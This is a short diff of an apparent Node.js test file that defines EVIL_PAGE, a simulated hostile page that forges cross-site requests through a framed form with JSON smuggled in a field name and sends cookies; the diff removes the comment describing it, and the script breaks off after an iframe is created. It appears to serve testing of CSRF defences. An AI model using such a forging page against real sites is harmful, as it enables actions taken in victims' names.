@@ -1,7 +1,6 @@
 import { createServer } from "node:http";
 import type { AddressInfo } from "node:net";
 
-/** Another site's page: a framed form with JSON in a field name, and scripts that send cookies. */
 const EVIL_PAGE = `<!doctype html><script>
 async function forge(url, text) {
   const frame = document.createElement("iframe");
